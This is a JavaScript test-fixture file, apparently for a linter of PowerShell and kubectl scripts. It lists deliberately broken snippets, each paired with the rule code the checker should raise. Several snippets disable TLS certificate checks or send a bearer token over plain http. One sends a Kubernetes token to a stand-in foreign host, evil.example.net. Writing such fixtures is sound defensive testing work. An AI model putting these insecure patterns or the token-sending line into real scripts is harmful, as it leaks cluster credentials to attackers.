/** What is PowerShell's own. */
import { spoilt, written } from './sabotage.js';

const token = spoilt('token', 'powershell');
const ps = written('powershell');

export const powershellSabotages = [
  token(
    'a bare variable as a native argument',
    '--request GET "$apiserver/api"',
    '--request GET $apiserver/api',
    'KS2103',
  ),
  token(
    'double quotes inside a native argument',
    `'jsonpath={''Cluster name\\tServer\\n''}`,
    `'jsonpath={"Cluster name\\tServer\\n"}`,
    'KS2301',
    { at: 'Cluster name' },
  ),
  ps(
    'an empty native argument',
    [
      '$ErrorActionPreference = "Stop"',
      "curl.exe --disable --fail --max-time 9 --user-agent '' https://lab.example.com:6443/api",
      "if ($LASTEXITCODE -ne 0) { throw 'curl' }",
    ],
    'KS2301',
    '--user-agent',
  ),
  ps(
    'a background job',
    ['$ErrorActionPreference = "Stop"', 'kubectl get pods &'],
    'KS1001',
    'kubectl get pods',
  ),
  ps(
    'a certificate check that always agrees',
    ['[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }'],
    'KS5003',
    'ServerCertificate',
  ),
  ps(
    '-SkipCertificateCheck',
    [
      '$ErrorActionPreference = "Stop"',
      'Invoke-RestMethod -Uri https://lab.example.com:6443/api -SkipCertificateCheck',
    ],
    'KS5003',
    '-SkipCertificateCheck',
  ),
  ps(
    'plain http by Invoke-RestMethod with a token',
    [
      '$ErrorActionPreference = "Stop"',
      '$token = kubectl create token default --context=lab',
      'if ($LASTEXITCODE -ne 0) { throw "x" }',
      'Invoke-RestMethod -Uri http://lab.example.com:6443/api -Headers @{ Authorization = "Bearer $token" }',
    ],
    'KS5002',
    'Invoke-RestMethod',
  ),
  ps(
    'a token to a foreign host by Invoke-WebRequest',
    [
      '$ErrorActionPreference = "Stop"',
      '$token = kubectl create token default --context=lab',
      'if ($LASTEXITCODE -ne 0) { throw "x" }',
      'Invoke-WebRequest -Uri https://evil.example.net/ -Headers @{ Authorization = "Bearer $token" }',
    ],
    'KS5106',
    'Invoke-WebRequest',
  ),
  ps(
    'mixed contexts by Invoke-RestMethod',
    [
      '$ErrorActionPreference = "Stop"',
      '$token = kubectl create token default --context=prod',
      'if ($LASTEXITCODE -ne 0) { throw "x" }',
      'Invoke-RestMethod -Uri https://lab.example.com:6443/api -Headers @{ Authorization = "Bearer $token" }',
    ],
    'KS4101',
    'Invoke-RestMethod',
  ),
];
